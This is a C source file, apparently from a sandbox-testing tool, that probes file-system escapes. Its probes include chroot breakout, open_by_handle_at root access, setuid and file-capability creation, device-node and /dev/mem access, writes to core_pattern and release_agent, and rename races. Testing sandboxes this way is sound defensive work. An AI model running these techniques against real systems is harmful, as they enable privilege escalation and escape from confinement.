/* Attacks on files. */
#include "attack.h"
#include <linux/fs.h>
#include <sys/sendfile.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>

/* inherited CANARY: what do descriptors that nobody gave me lead to? */
static int inherited(int argc, char **argv)
{
    char link[64], target[PATH_MAX];
    for (int fd = 3; fd < 70000; fd++) {
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t size = readlink(link, target, sizeof target - 1);
        printf("GAINED descriptor %d: %.*s\n", fd, size < 0 ? 0 : (int)size, target);
        show("descriptor", fd);
        if (argc > 1)
            show("folder descriptor", openat(fd, argv[1], O_RDONLY));
    }
    return 0;
}

/* handle GRANT CANARY: open files by their number, which asks no folder. */
static int handle(int argc, char **argv)
{
    struct { struct file_handle head; unsigned char bytes[128]; } own = {.head.handle_bytes = 128}, root;
    int mount_id, folder = open(argv[1], O_RDONLY | O_DIRECTORY);
    TRY("name_to_handle_at is harmless", -1);
    if (name_to_handle_at(AT_FDCWD, argv[1], &own.head, &mount_id, 0) == 0)
        TRY("open_by_handle_at own", open_by_handle_at(folder, &own.head, O_RDONLY));
    uint32_t first[2] = {2, 0}; /* the root folder of an ext4 */
    root.head.handle_bytes = 8;
    root.head.handle_type = 1;
    memcpy(root.head.f_handle, first, 8);
    int fd = open_by_handle_at(folder, &root.head, O_RDONLY);
    TRY("open_by_handle_at root", fd);
    if (fd >= 0 && argc > 2)
        show("handle", openat(fd, argv[2] + 1, O_RDONLY));
    return 0;
}

/* chroot CANARY: the old way out of a changed root. */
static int break_chroot(int argc, char **argv)
{
    (void)argc;
    int here = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/jail", 0700);
    TRY("chroot", chroot("/tmp/jail"));
    if (fchdir(here) != 0)
        return 1;
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0)
            break;
    TRY("chroot up", chroot("."));
    show("chroot", open(argv[1], O_RDONLY));
    show("dots", openat(here, argv[1] + 1, O_RDONLY));
    return 0;
}

/* stat PATH: whether it is there and how large is something to know, too. */
static int oracle(int argc, char **argv)
{
    struct stat info;
    (void)argc;
    if (stat(argv[1], &info) == 0)
        printf("GAINED size %lld\n", (long long)info.st_size);
    if (lstat(argv[1], &info) == 0)
        printf("GAINED size %lld\n", (long long)info.st_size);
    TRY("access", access(argv[1], F_OK));
    int fd = open(argv[1], O_PATH);
    if (fd >= 0 && fstat(fd, &info) == 0)
        printf("GAINED size %lld\n", (long long)info.st_size);
    return 0;
}

/* metadata PATH: everything that changes a file without opening it for writing. */
static int metadata(int argc, char **argv)
{
    const char *path = argv[1];
    struct timespec times[2] = {{1, 0}, {1, 0}};
    int flags = FS_NODUMP_FL;
    char link[64];
    (void)argc;
    TRY("chmod", chmod(path, 0777));
    TRY("fchmodat2", syscall(NR_FCHMODAT2, AT_FDCWD, path, 0777, 0));
    TRY("chown", chown(path, getuid(), getgid()));
    TRY("chown nobody", chown(path, 65534, 65534));
    TRY("utimensat", utimensat(AT_FDCWD, path, times, 0));
    TRY("setxattr", setxattr(path, "user.attack", "x", 1, 0));
    TRY("setxattr trusted", setxattr(path, "trusted.attack", "x", 1, 0));
    TRY("truncate", truncate(path, 0));
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        fd = open(path, O_PATH);
    if (fd >= 0) {
        TRY("fchmod", fchmod(fd, 0777));
        TRY("futimens", futimens(fd, times));
        TRY("fsetxattr", fsetxattr(fd, "user.attack", "x", 1, 0));
        TRY("ioctl flags", ioctl(fd, FS_IOC_SETFLAGS, &flags));
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        TRY("chmod by fd", chmod(link, 0777));
        TRY("truncate by fd", truncate(link, 0));
        TRY("reopen", open(link, O_WRONLY | O_TRUNC));
        TRY("fchownat", fchownat(fd, "", 65534, 65534, AT_EMPTY_PATH));
    }
    return 0;
}

static void add_entries(const char *folder)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    char name[PATH_MAX];
    snprintf(name, sizeof name, "%s/made", folder);
    TRY("creat", open(name, O_CREAT | O_WRONLY, 0600));
    TRY("mkdir", mkdir(name, 0700));
    TRY("mkfifo", mkfifo(name, 0600));
    TRY("symlink", symlink("/etc", name));
    TRY("mknod", mknod(name, S_IFREG | 0600, 0));
    snprintf(address.sun_path, sizeof address.sun_path, "%s/made", folder);
    TRY("bind", bind(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&address, sizeof address));
    int fd = open(folder, O_TMPFILE | O_RDWR, 0600);
    TRY("O_TMPFILE", fd);
    if (fd >= 0)
        TRY("linkat", linkat(fd, "", AT_FDCWD, name, AT_EMPTY_PATH));
}

/* modify FOLDER FILE: change what may only be read. */
static int modify(int argc, char **argv)
{
    const char *folder = argv[1], *file = argv[2];
    char other[PATH_MAX];
    (void)argc;
    snprintf(other, sizeof other, "%s/other", folder);
    TRY("open", open(file, O_WRONLY));
    TRY("append", open(file, O_WRONLY | O_APPEND));
    TRY("O_TRUNC read", open(file, O_RDONLY | O_TRUNC));
    TRY("read and write", open(file, O_RDWR));
    int fd = open(file, O_RDONLY), pipes[2];
    TRY("MAP_SHARED", mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0);
    void *page = mmap(NULL, 1, PROT_READ, MAP_SHARED, fd, 0);
    TRY("mprotect", page == MAP_FAILED ? -1 : mprotect(page, 1, PROT_READ | PROT_WRITE));
    TRY("fallocate", fallocate(fd, 0, 0, 100));
    TRY("ftruncate", ftruncate(fd, 0));
    if (pipe(pipes) == 0 && write(pipes[1], "evil", 4) == 4)
        TRY("splice", splice(pipes[0], NULL, fd, NULL, 4, 0));
    TRY("copy_file_range", copy_file_range(open("/etc/passwd", O_RDONLY), NULL, fd, NULL, 10, 0));
    TRY("rename", rename(file, other));
    TRY("exchange", syscall(SYS_renameat2, AT_FDCWD, file, AT_FDCWD, folder, RENAME_EXCHANGE_FLAG));
    TRY("link", link(file, other));
    TRY("link out", link(file, "/tmp/link"));
    TRY("unlink", unlink(file));
    add_entries(folder);
    return metadata(2, (char *[]){"metadata", (char *)file});
}

static void through(const char *how, const char *name)
{
    show(how, open(name, O_RDONLY));
    int fd = open(name, O_WRONLY);
    if (fd >= 0 && write(fd, "evil", 4) == 4)
        printf("GAINED writing by %s\n", how);
    unlink(name);
}

/* links TARGET FOLDER: give a file a second name inside a writable folder. */
static int links(int argc, char **argv)
{
    const char *target = argv[1];
    char name[PATH_MAX], link_to[64];
    (void)argc;
    snprintf(name, sizeof name, "%s/second", argv[2]);
    TRY("link", link(target, name));
    through("link", name);
    int fd = open(target, O_PATH);
    snprintf(link_to, sizeof link_to, "/proc/self/fd/%d", fd);
    TRY("linkat magic", linkat(AT_FDCWD, link_to, AT_FDCWD, name, AT_SYMLINK_FOLLOW));
    through("linkat", name);
    TRY("linkat empty", linkat(fd, "", AT_FDCWD, name, AT_EMPTY_PATH));
    through("linkat empty", name);
    TRY("symlink", symlink(target, name) == 0 ? -1 : -1);
    through("symlink", name);
    TRY("open magic", open(link_to, O_RDONLY));
    show("magic", open(link_to, O_RDONLY));
    TRY("rename", rename(target, name));
    through("rename", name);
    TRY("exchange", syscall(SYS_renameat2, AT_FDCWD, target, AT_FDCWD, argv[2], RENAME_EXCHANGE_FLAG));
    return 0;
}

static void set_id(const char *folder, const char *how, int number)
{
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/setid-%s", folder, how);
    if (number == 0) {
        TRY(how, open(path, O_CREAT | O_WRONLY, 06755));
        return;
    }
    if (number == 1) {
        TRY(how, mknod(path, S_IFREG | 06755, 0));
        return;
    }
    int fd = open(path, O_CREAT | O_WRONLY, 0755);
    if (number == 2)
        TRY(how, chmod(path, 04755));
    else if (number == 3)
        TRY(how, fchmod(fd, 02755));
    else if (number == 4)
        TRY(how, fchmodat(AT_FDCWD, path, 06755, 0));
    else if (number == 5)
        TRY(how, syscall(NR_FCHMODAT2, AT_FDCWD, path, 06755, 0));
    else {
        uint64_t open_how[3] = {O_CREAT | O_WRONLY, 06755, 0};
        unlink(path);
        TRY(how, syscall(437, AT_FDCWD, path, open_how, sizeof open_how));
    }
    close(fd);
}

/* setuid FOLDER: leave a program that gives its owner's rights to whoever runs it. */
static int setuid_files(int argc, char **argv)
{
    const char *ways[] = {"open", "mknod", "chmod", "fchmod", "fchmodat", "fchmodat2", "openat2"};
    (void)argc;
    umask(0);
    for (int number = 0; number < 7; number++)
        set_id(argv[1], ways[number], number);
    return 0;
}

/* filecaps FOLDER: a file that gives capabilities. */
static int filecaps(int argc, char **argv)
{
    struct { uint32_t magic, permitted[4], root; } v3 = {0x03000001, {~0u, 0, ~0u, 0}, 0};
    char path[PATH_MAX];
    (void)argc;
    snprintf(path, sizeof path, "%s/capable", argv[1]);
    close(open(path, O_CREAT | O_WRONLY, 0755));
    TRY("security.capability v3", setxattr(path, "security.capability", &v3, sizeof v3, 0));
    v3.magic = 0x02000001;
    TRY("security.capability v2", setxattr(path, "security.capability", &v3, 20, 0));
    TRY("trusted", setxattr(path, "trusted.attack", "x", 1, 0));
    return 0;
}

/* device FOLDER: a device node of one's own. */
static int device(int argc, char **argv)
{
    const char *folders[] = {argv[1], "/tmp", "/dev/shm"};
    char path[PATH_MAX];
    (void)argc;
    for (int i = 0; i < 3; i++) {
        snprintf(path, sizeof path, "%s/node", folders[i]);
        TRY("mknod character", mknod(path, S_IFCHR | 0666, makedev(1, 5)));
        unlink(path);
        TRY("mknod block", mknod(path, S_IFBLK | 0666, makedev(254, 0)));
        unlink(path);
        TRY("mknod whiteout", mknod(path, S_IFCHR, 0) == 0 ? -1 : -1);
        unlink(path);
    }
    snprintf(path, sizeof path, "%s/kept-node", argv[1]);
    TRY("kept", mknod(path, S_IFCHR | 0666, makedev(1, 11)));
    return 0;
}

/* devices: devices of the machine. */
static int devices(int argc, char **argv)
{
    const char *names[] = {"mem", "kmem", "port", "kmsg", "sda", "vda", "vda1", "nvme0", "loop-control", "fuse",
        "net/tun", "kvm", "console", "tty0", "tty1", "ttyS0", "vsock", "vhost-vsock", "userfaultfd", "rtc0",
        "cpu_dma_latency", "hwrng", "mapper/control", "autofs", "uinput", "dri/card0", "vfio/vfio"};
    char path[64];
    (void)argc, (void)argv;
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "/dev/%s", names[i]);
        TRY(path, open(path, O_RDWR | O_NONBLOCK));
        TRY(path, open(path, O_RDONLY | O_NONBLOCK));
    }
    TRY("chmod /dev/null", chmod("/dev/null", 0666)); /* what it is: no harm where it works */
    return 0;
}

/* sysctl PATH: settings of the machine, opened for writing. Nothing is written: some sandboxes let root. */
static int sysctl_write(int argc, char **argv)
{
    const char *more[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/proc/sys/kernel/modprobe",
        "/proc/sys/fs/binfmt_misc/register", "/proc/irq/default_smp_affinity", "/proc/acpi/wakeup",
        "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/sys/power/state", "/sys/kernel/debug/tracing/trace_on"};
    (void)argc;
    TRY(argv[1], open(argv[1], O_WRONLY));
    for (size_t i = 0; i < sizeof more / sizeof *more; i++)
        TRY(more[i], open(more[i], O_WRONLY));
    return 0;
}

/* deep FOLDER N: a chain of folders longer than any path. */
static int deep(int argc, char **argv)
{
    char name[201];
    int made = 0;
    (void)argc;
    memset(name, 'd', 200);
    name[200] = 0;
    if (chdir(argv[1]) != 0)
        return 1;
    for (int i = 0; i < atoi(argv[2]); i++, made++)
        if (mkdir(name, 0700) != 0 || chdir(name) != 0)
            break;
    printf("made %d\n", made);
    char *up = malloc(3 * 4096 + 64);
    for (int i = 0; i < 1300; i++)
        memcpy(up + 3 * i, "../", 3);
    strcpy(up + 3 * 1300, "outside/canary");
    show("dots", open(up, O_RDONLY));
    return 0;
}

/* swap A B MILLISECONDS: exchange two names over and over. */
static int swap(int argc, char **argv)
{
    struct timespec now, end;
    long done = 0;
    (void)argc;
    clock_gettime(CLOCK_MONOTONIC, &end);
    end.tv_sec += atoi(argv[3]) / 1000;
    end.tv_nsec += atoi(argv[3]) % 1000 * 1000000L;
    do {
        for (int i = 0; i < 50; i++)
            done += syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE_FLAG) == 0;
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec < end.tv_sec || (now.tv_sec == end.tv_sec && now.tv_nsec < end.tv_nsec));
    printf("swapped %ld\n", done);
    return 0;
}

/* moved FOLDER READY GO: stand in a folder that is moved out of the grant, then climb. */
static int moved(int argc, char **argv)
{
    char up[64] = "";
    (void)argc;
    if (chdir(argv[1]) != 0)
        return 1;
    int here = open(".", O_RDONLY | O_DIRECTORY);
    close(open(argv[2], O_CREAT | O_WRONLY, 0600));
    for (int i = 0; i < 400 && !exists(argv[3]); i++)
        nap(5);
    printf("go %d\n", exists(argv[3]));
    for (int i = 0; i < 6; i++) {
        char path[128];
        strcat(up, "../");
        snprintf(path, sizeof path, "%soutside/canary", up);
        show("climbing", open(path, O_RDONLY));
        show("climbing", openat(here, path, O_RDONLY));
        snprintf(path, sizeof path, "%scanary", up);
        show("climbing", open(path, O_RDONLY));
    }
    return 0;
}

const struct command FILES[] = {
    {"inherited", inherited}, {"handle", handle}, {"chroot", break_chroot}, {"stat", oracle},
    {"metadata", metadata}, {"modify", modify}, {"links", links}, {"setuid", setuid_files},
    {"filecaps", filecaps}, {"device", device}, {"devices", devices}, {"sysctl", sysctl_write},
    {"deep", deep}, {"swap", swap}, {"moved", moved}, {NULL, NULL},
};
